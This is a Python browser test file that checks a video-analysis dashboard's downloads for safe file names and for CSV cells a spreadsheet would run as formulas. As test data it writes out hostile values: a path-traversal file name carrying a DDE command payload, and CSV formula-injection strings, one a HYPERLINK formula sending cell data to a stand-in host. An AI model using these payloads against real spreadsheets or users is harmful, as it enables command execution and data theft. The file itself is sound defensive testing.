"""What is taken away does no harm: neither a table in a spreadsheet nor what a file is called."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote

import pytest
from playwright.sync_api import Browser, Download, expect

from interhuman.answers.saved import dump
from tests import clips, examples
from tests.browser.conftest import Held, open_saved_result, open_tab
from tests.browser.person import Person
from tests.server import ANALYZE, Scripted

HOSTILE_NAME = "../../=cmd|' /C calc'!A0 <b>.mp4"
FORMULAS = (
    "=cmd|' /C calc'!A0+1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"1+1")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "said;=1+1",
    "said\t@1+1",
    'said"\n=1+1',
    " =1+1",
    "\uff1d1+1",
)
FILE_NAME = re.compile(r"\w[\w \-]*(\.interhuman)?\.(json|csv|vtt|srt|txt|html|xlsx|zip)")
TOLD_NAME = re.compile(r"attachment; (?:filename=\"(.*)\"|filename\*=utf-8''(.*))")


@pytest.fixture
def person(browser: Browser, held: Held) -> Iterator[Person]:
    """A person who has just opened the dashboard, whose API answers at once."""
    held.let_go()
    one = Person(browser, held.url)
    yield one
    one.context.close()


def cells(data: bytes) -> Iterator[str]:
    """Yield every cell as spreadsheets set to any of the usual separators would cut it."""
    text = data.decode("utf-8-sig")
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula, or for more than one cell."""
    if cell.startswith("'"):
        return False
    start = unicodedata.normalize("NFKC", cell).lstrip("\"' ")[:1]
    return cell[:1] in {"\t", "\r", "\n"} or start in {"=", "+", "-", "@"}


def check_names(person: Person, download: Download) -> None:
    """Check what a file is called by the server, and by the browser."""
    said = person.dispositions[download.url]
    told = TOLD_NAME.fullmatch(said)
    assert told is not None, said
    assert FILE_NAME.fullmatch(told[1] or unquote(told[2])), said
    assert FILE_NAME.fullmatch(download.suggested_filename), download.suggested_filename


def tables(person: Person, folder: Path) -> list[bytes]:
    """Download everything, check the files' names, and return the tables."""
    downloads = person.download_all(folder)
    assert len(downloads) >= 10
    for download in downloads:
        check_names(person, download)
    found = [path.read_bytes() for path in sorted(folder.glob("*.csv"))]
    assert len(found) >= 6
    return found


def hostile_answer() -> dict[str, object]:
    """Return an answer in which every text is a formula."""
    return {
        "signals": [examples.signal(text, 0.0, 5.0, text, text) for text in FORMULAS],
        "engagement_state": [{"state": text, "start": 0.0, "end": 9.0} for text in FORMULAS],
    }


def test_a_hostile_name_and_a_hostile_answer_are_taken_away_harmless(
    person: Person, held: Held, tmp_path: Path
) -> None:
    page = person.page
    hostile_id = {"X-Correlation-ID": HOSTILE_NAME}
    held.api.script(
        ANALYZE,
        Scripted(body=b"<p>not JSON</p>", headers=hostile_id),
        Scripted(json=hostile_answer()),
    )
    recording = clips.recording(3.0)
    person.begin({"name": HOSTILE_NAME, "mimeType": "video/mp4", "buffer": recording})
    page.get_by_role("button", name="Download the response as received").wait_for()
    (download,) = person.download_all(tmp_path)
    check_names(person, download)
    page.get_by_role("button", name="Dismiss").click()
    page.get_by_role("button", name="Analyze").click()
    person.wait_for_result()
    expect(page.get_by_role("heading", name="=cmd|' /C calc'!A0 <b>.mp4")).to_be_visible()
    all_cells = [cell for table in tables(person, tmp_path) for cell in cells(table)]
    assert all(
        any(text in cell.replace("'", "") for cell in all_cells) for text in ("=1+1", "@1+1")
    )
    assert [cell for cell in all_cells if runs(cell)] == []


def test_a_saved_result_with_a_hostile_name_is_taken_away_harmless(
    person: Person, tmp_path: Path
) -> None:
    moment = datetime(2031, 4, 5, 6, 7, 8, tzinfo=UTC)
    data = dump(examples.read(hostile_answer()), recording=HOSTILE_NAME, saved_at=moment)
    open_saved_result(person.page, {"name": "x.json", "mimeType": "text/json", "buffer": data})
    person.wait_for_result()
    expect(person.page.get_by_role("heading", name=HOSTILE_NAME)).to_be_visible()
    open_tab(person.page, "Statistics")
    downloads = person.download_shown(tmp_path)
    assert downloads
    for download in downloads:
        check_names(person, download)


@pytest.mark.parametrize("text", FORMULAS)
def test_the_check_would_find_a_formula(text: str) -> None:
    line = io.StringIO(newline="")
    csv.writer(line).writerow(["first", text])
    assert any(map(runs, cells(line.getvalue().encode("utf-8-sig"))))
